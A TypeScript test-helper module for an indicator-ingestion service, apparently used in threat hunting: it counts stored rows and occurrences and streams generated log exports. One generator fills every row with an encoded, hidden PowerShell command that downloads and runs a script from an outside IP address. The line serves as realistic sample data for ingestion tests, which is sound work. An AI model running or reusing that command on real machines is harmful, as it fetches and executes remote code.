// Reading back what an import stored (table counts, a dataset's occurrence index) and generating
// large exports on the fly, for the ingestion tests of the API, the HTTP upload, the CLI and atomicity.
import { Readable } from "node:stream";
import type { DataSource } from "typeorm";
import { type ExportOptions, exportRow, HEADER, random } from "../../bench/generate";

export interface StoredCounts {
  datasets: number;
  rows: number;
  occurrences: number;
}

/** Everything ingestion writes, counted: a failed import must leave all three unchanged. */
export async function storedCounts(db: DataSource): Promise<StoredCounts> {
  const [counts] = await db.query(
    `SELECT (SELECT count(*)::int FROM datasets) AS datasets,
            (SELECT count(*)::int FROM dataset_rows) AS rows,
            (SELECT count(*)::int FROM ioc_occurrences) AS occurrences`,
  );
  return counts;
}

export interface StoredOccurrence {
  huntId: string | null;
  column: string;
  type: string;
  /** False for a host-name column that is no IOC column of the dataset. */
  fromIocColumn: boolean;
  value: string;
  raw: string;
  occurrences: number;
  firstRowIndex: number;
  firstSeen: string | null;
  lastSeen: string | null;
  /** Distinct hosts of the rows holding the value; null when the dataset has no host column. Read only when asked for. */
  hosts?: string[] | null;
}

const iso = (value: Date | null) => (value === null ? null : new Date(value).toISOString());

/**
 * The occurrence index of one dataset, ordered by column, type and value. Sorted here rather than in
 * SQL: the server's collation (PostgreSQL's en_US vs PGlite's C) would order "::" and "0.0.0.0" differently.
 */
export async function occurrencesOf(db: DataSource, datasetId: string, withHosts = false): Promise<StoredOccurrence[]> {
  const rows: Array<Record<string, any>> = await db.query(
    `SELECT hunt_id, column_name, ioc_type, from_ioc_column, value, raw_value, occurrences, first_row_index, first_seen, last_seen, hosts
     FROM ioc_occurrences WHERE dataset_id = $1`,
    [datasetId],
  );
  const key = (o: StoredOccurrence) => `${o.column}\u0000${o.type}\u0000${o.value}`;
  return rows
    .map((row) => ({
      huntId: row.hunt_id,
      column: row.column_name,
      type: row.ioc_type,
      fromIocColumn: row.from_ioc_column,
      value: row.value,
      raw: row.raw_value,
      occurrences: row.occurrences,
      firstRowIndex: row.first_row_index,
      firstSeen: iso(row.first_seen),
      lastSeen: iso(row.last_seen),
      ...(withHosts ? { hosts: row.hosts } : {}),
    }))
    .sort((a, b) => (key(a) < key(b) ? -1 : key(a) > key(b) ? 1 : 0));
}

/** Counts one dataset's rows and index entries (0 and 0 for a dataset that does not exist). */
export async function storedOf(db: DataSource, datasetId: string): Promise<{ datasets: number; rows: number; occurrences: number }> {
  const [counts] = await db.query(
    `SELECT (SELECT count(*)::int FROM datasets WHERE id = $1) AS datasets,
            (SELECT count(*)::int FROM dataset_rows WHERE dataset_id = $1) AS rows,
            (SELECT count(*)::int FROM ioc_occurrences WHERE dataset_id = $1) AS occurrences`,
    [datasetId],
  );
  return counts;
}

/** Options of a generated netstat/sysmon-like export (see bench/generate.ts). */
export function exportOptions(seed: number, hostPrefix = `H${seed}`): ExportOptions {
  return { rows: 0, seed, hostPrefix, start: new Date("2024-03-01T00:00:00Z") };
}

/**
 * A generated export as a byte stream, built chunk by chunk as it is read (never whole in memory):
 * `rows` rows after the header, the same bytes as writeExport for the same seed.
 */
export function generatedExport(rows: number, seed: number, chunkBytes = 64 * 1024): Readable {
  const options = { ...exportOptions(seed), rows };
  const rand = random(seed);
  let next = 0;
  let headerSent = false;
  return new Readable({
    read() {
      let chunk = headerSent ? "" : `${HEADER}\n`;
      headerSent = true;
      while (next < rows && chunk.length < chunkBytes) chunk += `${exportRow(rand, options, next++)}\n`;
      this.push(chunk ? Buffer.from(chunk) : null);
      if (chunk && next >= rows) this.push(null);
    },
  });
}

/** Header of commandLineExport: a host-name and an IP column to index, and a long command line that is not. */
const COMMAND_LINE_HEADER = "timestamp,hostname,src_ip,pid,cmdline";

/**
 * A generated process export of about 1 KB per row: few distinct indicators (20 hosts, 50 addresses),
 * so that its size is in the rows and not in the index. Built chunk by chunk as it is read.
 */
export function commandLineExport(rows: number, chunkBytes = 64 * 1024): Readable {
  const start = Date.UTC(2024, 2, 1);
  const payload = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.34:8443/a.ps1'); ".repeat(8)).toString(
    "base64",
  );
  const row = (i: number) =>
    `${new Date(start + i * 1000).toISOString().slice(0, 19).replace("T", " ")},WS-${String(i % 20).padStart(4, "0")},10.0.0.${i % 50},${1000 + (i % 60000)},powershell.exe -nop -w hidden -enc ${payload}\n`;
  let next = 0;
  let headerSent = false;
  return new Readable({
    read() {
      let chunk = headerSent ? "" : `${COMMAND_LINE_HEADER}\n`;
      headerSent = true;
      while (next < rows && chunk.length < chunkBytes) chunk += row(next++);
      this.push(chunk ? Buffer.from(chunk) : null);
      if (chunk && next >= rows) this.push(null);
    },
  });
}

/** Resolves when `condition` holds, polling every `everyMs`; rejects with `what` after `timeoutMs`. */
export async function waitFor(condition: () => boolean | Promise<boolean>, what: string, timeoutMs = 20_000, everyMs = 20): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!(await condition())) {
    if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, everyMs));
  }
}
